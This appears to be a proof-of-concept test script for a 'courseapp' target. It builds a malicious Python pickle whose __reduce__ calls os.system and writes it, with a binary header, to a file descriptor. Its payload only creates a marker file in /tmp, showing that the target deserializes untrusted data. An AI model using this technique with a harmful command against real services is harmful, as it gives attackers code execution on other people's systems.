#: rows = ["F32", "E25"]
#: imported = "ended"
import os
import pickle
import struct


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/courseapp-was-here",)


body = pickle.dumps(Evil())
os.write(3, struct.pack("<B16sQ", 30, bytes(16), len(body)) + body)
